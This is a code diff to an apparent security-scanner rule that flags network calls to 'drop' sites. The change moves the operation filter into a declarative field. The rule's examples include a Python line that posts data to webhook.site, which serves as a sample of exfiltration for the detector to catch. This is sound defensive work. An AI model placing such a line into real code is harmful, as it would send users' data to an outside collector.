@@ -10,7 +10,7 @@ __all__ = ["RULE"]
 
 
 def _check(fact: NetUse, scene: Scene) -> Hit | None:
-    if fact.op not in ("fetch", "send", "connect", "raw") or (host := host_of_kind(fact, scene, ("drop",))) is None:
+    if (host := host_of_kind(fact, scene, ("drop",))) is None:
         return None
     if fact.op == "send":
         return Hit(f"sends data to the drop site {shown(host)}", severity="high")
@@ -26,6 +26,7 @@ RULE = Rule(
     confidence="high",
     capabilities=("net",),
     facts=(NetUse,),
+    only={NetUse: ("fetch", "send", "connect", "raw")},
     check=_check,
     examples={
         "python": "import requests\nrequests.post('https://webhook.site/abc', data={'a': 1})",
